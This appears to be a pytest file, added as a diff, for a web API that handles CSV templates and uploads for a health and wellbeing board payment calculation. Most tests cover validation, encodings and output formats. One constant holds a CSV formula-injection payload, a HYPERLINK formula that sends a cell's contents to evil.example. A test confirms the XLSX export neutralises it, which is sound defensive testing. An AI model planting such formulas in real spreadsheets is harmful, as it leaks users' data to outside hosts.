@@ -1,0 +1,282 @@
+"""The spreadsheet endpoints: templates, and the CSV upload through the one determination code path."""
+
+import csv
+import io
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from sheets.payloads import CONDITIONS_COLUMNS, METRICS_COLUMNS, POOLS_COLUMNS, build_requests
+from sheets.writing import RESULT_COLUMNS, XLSX_MIME
+
+ROOT = Path(__file__).resolve().parents[2]
+PROBLEM = "application/problem+json"
+HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Falls\")"
+
+
+def templates(client):
+    return {name: client.get(f"/api/v1/templates/{name}.csv").data
+            for name in ("metrics", "conditions", "pools")}
+
+
+def upload(client, files, accept=None):
+    data = {name: (io.BytesIO(content), f"{name}.csv")
+            for name, content in files.items() if content is not None}
+    headers = {"Accept": accept} if accept else {}
+    return client.post("/api/v1/calculations/csv", data=data, content_type="multipart/form-data",
+                       headers=headers)
+
+
+def csv_rows(response):
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+
+
+@pytest.mark.parametrize(("name", "columns"), [
+    ("metrics", METRICS_COLUMNS), ("conditions", CONDITIONS_COLUMNS), ("pools", POOLS_COLUMNS)])
+def test_templates_have_the_header_and_a_worked_example(client, name, columns):
+    response = client.get(f"/api/v1/templates/{name}.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert f'filename="{name}.csv"' in response.headers["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    assert tuple(rows[0]) == columns
+    assert {row[0] for row in rows[1:]} == {"E06000001", "E08000021"}
+
+
+def test_metrics_template_covers_every_metric_period_and_condition(client):
+    text = client.get("/api/v1/templates/metrics.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    for code in ("E06000001", "E08000021"):
+        mine = [(r["metric"], r["period"]) for r in rows if r["hwb_code"] == code]
+        # rules §4: the nine metric-periods of 2015/16
+        assert sorted(mine) == sorted([
+            ("delayed_transfers", "april-2015"), ("avoidable_emergency_admissions", "april-2015"),
+            ("local", "april-2015"), ("residential_admissions", "october-2015"),
+            ("reablement", "october-2015"),
+            ("delayed_transfers", "october-2015"), ("avoidable_emergency_admissions", "october-2015"),
+            ("patient_experience", "october-2015"), ("local", "october-2015")])
+    assert any(r["local_metric"] for r in rows) and any(r["definition_name"] for r in rows)
+    conditions = client.get("/api/v1/templates/conditions.csv").get_data(as_text=True)
+    for condition in ("plans_jointly_agreed", "protect_social_care", "seven_day_services", "data_sharing",
+                      "joint_assessment", "acute_sector_impact"):
+        assert conditions.count(f",{condition},") >= 2
+
+
+def test_unknown_template_is_404_problem(client):
+    response = client.get("/api/v1/templates/plans.csv")
+    assert response.status_code == 404 and response.content_type == PROBLEM
+
+
+def test_template_round_trip_computes_with_no_problem_or_warning(client):
+    files = templates(client)
+    response = upload(client, files)
+    assert response.status_code == 200, response.get_data(as_text=True)
+    assert response.mimetype == "text/csv"
+    rows = csv_rows(response)
+    assert tuple(rows[0]) == RESULT_COLUMNS
+    assert [(r["hwb_code"], r["tranche"]) for r in rows] == [
+        (code, tranche) for code in ("E06000001", "E08000021")
+        for tranche in ("april-2015/conditions", "april-2015/metrics", "october-2015/metrics")]
+    assert rows[0]["hwb_name"] == "Hartlepool" and rows[3]["hwb_name"] == "Newcastle upon Tyne"
+    # rules §2 and §8: 25%, 25% and 50% of the pool in pools.csv (£2,200,000.00 and £5,530,000.00)
+    assert [r["available"] for r in rows] == ["550000.00", "550000.00", "1100000.00",
+                                              "1382500.00", "1382500.00", "2765000.00"]
+    for r in rows:
+        assert Decimal(r["released"]) + Decimal(r["held_back"]) == Decimal(r["available"])
+        assert r["plan_assured"] == "TRUE"  # every access condition's evidence is in the template
+    body = upload(client, files, "application/json").get_json()
+    assert [d["warnings"] for d in body] == [[], []]
+    assert all(c["status"] == "met" for d in body for c in d["conditions"])
+
+
+def test_json_results_are_exactly_the_json_endpoint_answers(app, client):
+    files = templates(client)
+    body = upload(client, files, "application/json").get_json()
+    requests, problems = build_requests(files, app.extensions["boards"])
+    assert problems == []
+    direct = [client.post("/api/v1/calculations", json=r.payload).get_json() for r in requests]
+    assert body == direct
+
+
+def test_a_152_board_file(client):
+    """Every board in reference_data/boards.csv, with the template's first board's figures."""
+    boards = list(csv.DictReader(io.StringIO((ROOT / "reference_data" / "boards.csv").read_text())))
+    codes = [row["ons_code"] for row in boards]
+    assert len(codes) == 152
+    metrics = client.get("/api/v1/templates/metrics.csv").get_data(as_text=True).splitlines()
+    example = [line for line in metrics[1:] if line.startswith("E06000001,")]
+    rows = [metrics[0]] + [line.replace("E06000001", code, 1) for code in codes for line in example]
+    pools = ["hwb_code,p4p_pool"] + [f"{code},{1_000_000 + i * 1000}.00" for i, code in enumerate(codes)]
+    response = upload(client, {"metrics": "\r\n".join(rows).encode(), "pools": "\n".join(pools).encode()})
+    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
+    result = csv_rows(response)
+    assert len(result) == 152 * 3
+    assert [r["hwb_code"] for r in result[::3]] == codes
+    names = {row["ons_code"]: row["name"] for row in boards}
+    assert all(r["hwb_name"] == names[r["hwb_code"]] for r in result)
+    # no conditions sent: the conditions tranche is not assessed and access is not checked (api.md)
+    assert {r["plan_assured"] for r in result} == {""}
+    last = [r for r in result if r["hwb_code"] == codes[-1]]
+    assert last[2]["available"] == f"{Decimal(1_000_000 + 151 * 1000) / 2:.2f}"
+
+
+def test_excel_style_cp1252_and_bom_files(client):
+    files = templates(client)
+    # Windows "CSV (Comma delimited)": cp1252, CRLF, a £ and curly quotes, stray spaces, trailing blank rows
+    conditions = files["conditions"].decode().replace(
+        "Protection means maintaining", "“Protection” – for £ spent – means maintaining")
+    conditions = "\r\n".join(line if '"' in line else " " + line.replace(",", " , ")
+                             for line in conditions.splitlines()) + "\r\n,,,\r\n,,,\r\n"
+    # "CSV UTF-8": BOM, CRLF, thousands separators in quoted numbers
+    metrics = files["metrics"].decode().replace("3100,72000", '"3,100","72,000"')
+    pools = "hwb_code,p4p_pool\r\nE06000001,\"£2,200,000.00\"\r\nE08000021,\"5,530,000\"\r\n"
+    response = upload(client, {"metrics": b"\xef\xbb\xbf" + metrics.replace("\n", "\r\n").encode(),
+                               "conditions": conditions.encode("cp1252"),
+                               "pools": pools.encode("cp1252")}, "application/json")
+    assert response.status_code == 200, response.get_data(as_text=True)
+    original = upload(client, files, "application/json").get_json()
+    assert response.get_json() == original  # the same figures as the plain files
+
+
+def problems_of(response):
+    assert response.status_code == 422, response.get_data(as_text=True)
+    assert response.content_type == PROBLEM
+    body = response.get_json()
+    assert body["status"] == 422 and "nothing was computed" in body["detail"]
+    assert body["type"] == "/api/v1/problems/invalid-input"  # as the JSON calculator's invalid input
+    return {e["location"]: e["message"] for e in body["errors"]}
+
+
+def test_every_problem_of_every_kind_at_once(client):
+    files = templates(client)
+    metrics = files["metrics"].decode().splitlines()
+    metrics[1] = metrics[1].replace(",440,", ",TBC,")                                     # row 2: plan
+    metrics[2] = metrics[2].replace("avoidable_emergency_admissions", "emergency_admissions")  # row 3: metric
+    metrics[4] = metrics[4].replace("october-2015", "april-2015")                          # row 5: period
+    metrics[12] = metrics[12].replace("ASCOF-1A", "ASCOF-9Z")                              # row 13 and 19
+    metrics[18] = metrics[18].replace("ASCOF-1A", "ASCOF-9Z")
+    metrics.append(metrics[10])                                                            # row 20: duplicate
+    metrics.append(metrics[10].replace("E08000021", "E09999999"))                          # row 21: board
+    conditions = files["conditions"].decode() + "E06000001,data_sharing,open_api,TRUE\n"   # row 32: field
+    response = upload(client, {"metrics": "\n".join(metrics).encode(), "conditions": conditions.encode(),
+                               "pools": files["pools"]})
+    found = problems_of(response)
+    assert found["metrics.csv row 2, column plan"] == "plan must be a number; got 'TBC'"
+    assert found["metrics.csv row 20, column period"] == \
+        "duplicate row: E08000021 delayed_transfers april-2015 is also given in row 11"
+    assert "unknown board code 'E09999999'" in found["metrics.csv row 21, column hwb_code"]
+    assert "data_sharing has no field 'open_api'" in found["conditions.csv row 32, column field"]
+    # in the same answer, the domain's JSON-path problems mapped back to the cells
+    assert found["metrics.csv row 3, column metric"].startswith("unknown metric 'emergency_admissions'")
+    assert "residential_admissions for october-2015 only" in found["metrics.csv row 5, column period"]
+    assert "not in the local menu" in found["metrics.csv row 13, column local_metric"]
+    assert len(found) == 7
+
+
+def test_domain_problems_of_a_row_with_a_bad_cell_wait_for_that_cell(client):
+    """A row whose cell could not be read was sent without it; the domain's view of that row would
+    only echo the cell problem (a missing plan), so it is not reported twice."""
+    files = templates(client)
+    metrics = files["metrics"].decode().splitlines()
+    metrics[4] = metrics[4].replace("october-2015", "april-2015").replace(",940,", ",TBC,")  # row 5
+    pools = "hwb_code,p4p_pool\nE06000001,lots\nE08000021,5530000\n"
+    found = problems_of(upload(client, {"metrics": "\n".join(metrics).encode(), "pools": pools.encode()}))
+    assert found == {"metrics.csv row 5, column plan": "plan must be a number; got 'TBC'",
+                     "pools.csv row 2, column p4p_pool": "p4p_pool must be a number; got 'lots'"}
+
+
+def test_missing_metrics_file_and_a_workbook_instead_of_csv(client):
+    found = problems_of(upload(client, {"conditions": b"PK\x03\x04not really", "pools": None}))
+    assert found["metrics.csv"] == "this file is required (upload it as the 'metrics' field)"
+    assert "an Excel workbook (.xlsx)" in found["conditions.csv"]
+
+
+def test_file_sent_as_a_plain_form_field_is_read(client):
+    files = templates(client)
+    response = client.post("/api/v1/calculations/csv", data={name: content.decode() for name, content in
+                                                             files.items()})
+    assert response.status_code == 200
+    assert len(csv_rows(response)) == 6
+
+
+def test_upload_over_the_size_limit_is_413_problem(tmp_path):
+    from api import create_app
+
+    app = create_app({"TESTING": True, "CSV_UPLOAD_MAX_BYTES": 2048})
+    client = app.test_client()
+    files = templates(client)
+    files["metrics"] += b"\n" * 4096
+    response = upload(client, files)
+    assert response.status_code == 413 and response.content_type == PROBLEM
+    assert "larger than the limit" in response.get_json()["detail"]
+
+
+def test_default_size_limit_is_ten_megabytes(app, client):
+    assert app.config["CSV_UPLOAD_MAX_BYTES"] == 10 * 1024 * 1024
+    body = (b'--b\r\nContent-Disposition: form-data; name="metrics"; filename="metrics.csv"\r\n\r\n'
+            + b"hwb_code,metric,period,plan\n" + b" " * (10 * 1024 * 1024) + b"\r\n--b--\r\n")
+    response = client.post("/api/v1/calculations/csv", data=body,
+                           content_type="multipart/form-data; boundary=b")
+    assert response.status_code == 413 and response.content_type == PROBLEM
+
+
+@pytest.mark.parametrize(("accept", "mimetype"), [
+    (None, "text/csv"), ("*/*", "text/csv"), ("text/csv", "text/csv"),
+    ("application/json", "application/json"),
+    (XLSX_MIME, XLSX_MIME), ("text/html,application/xhtml+xml,*/*;q=0.8", "text/csv"),
+])
+def test_answer_by_accept(client, accept, mimetype):
+    response = upload(client, templates(client), accept)
+    assert response.status_code == 200 and response.mimetype == mimetype
+
+
+def test_unacceptable_type_is_406(client):
+    response = upload(client, templates(client), "image/png")
+    assert response.status_code == 406 and response.content_type == PROBLEM
+
+
+def test_xlsx_of_the_template(client):
+    response = upload(client, templates(client), XLSX_MIME)
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    assert book.sheetnames == ["Tranches", "Metric lines", "Conditions", "Warnings"]
+    tranches = book["Tranches"]
+    assert tranches.freeze_panes == "C2" and tranches.max_row == 7
+    assert tranches["D2"].value == 550000 and tranches["D2"].data_type == "n"
+    assert "£" in tranches["D2"].number_format
+    lines = book["Metric lines"]
+    header = [c.value for c in lines[1]]
+    assert lines.max_row == 1 + 2 * 9
+    first = dict(zip(header, (c.value for c in lines[2]), strict=True))
+    assert first["metric"] == "delayed_transfers" and first["period"] == "april-2015"
+    assert isinstance(first["baseline"], float) and first["baseline_ci_lower"] < first["baseline"]
+    assert first["released"] + first["held_back"] == pytest.approx(first["available"])
+    conditions = book["Conditions"]
+    assert conditions.max_row == 1 + 2 * 6
+
+
+def test_injection_in_a_local_alternatives_name(client):
+    files = templates(client)
+    text = files["metrics"].decode().replace(",local,PHOF-2.24i,april-2015,", ",local,,april-2015,")
+    text = text.replace(",local,PHOF-2.24i,october-2015,", ",local,,october-2015,")
+    lines = text.splitlines()
+    definition = f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",rate,lower,per 100000,HES,JHWS falls priority'
+    lines = [line[:-len(",,,,,")] + definition if ",local,,april-2015," in line else line for line in lines]
+    files["metrics"] = "\n".join(lines).encode()
+    response = upload(client, files, XLSX_MIME)
+    assert response.status_code == 200, response.get_data(as_text=True)
+    lines_sheet = openpyxl.load_workbook(io.BytesIO(response.data))["Metric lines"]
+    header = [c.value for c in lines_sheet[1]]
+    names = [row[header.index("name")] for row in lines_sheet.iter_rows(min_row=2, values_only=True)
+             if row[0] == "E06000001" and row[header.index("metric")] == "local"]
+    assert names == ["'" + HOSTILE, "'" + HOSTILE]
+    body = upload(client, files, "application/json").get_json()
+    # JSON is data, not a spreadsheet: the name comes back as typed
+    assert {m["name"] for m in body[0]["metrics"] if m["metric"] == "local"} == {HOSTILE}
+
+
+def test_openapi_documents_the_upload(client):
+    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
+    assert "multipart/form-data" in paths["/api/v1/calculations/csv"]["post"]["requestBody"]["content"]
+    assert "/api/v1/templates/{name}.csv" in paths
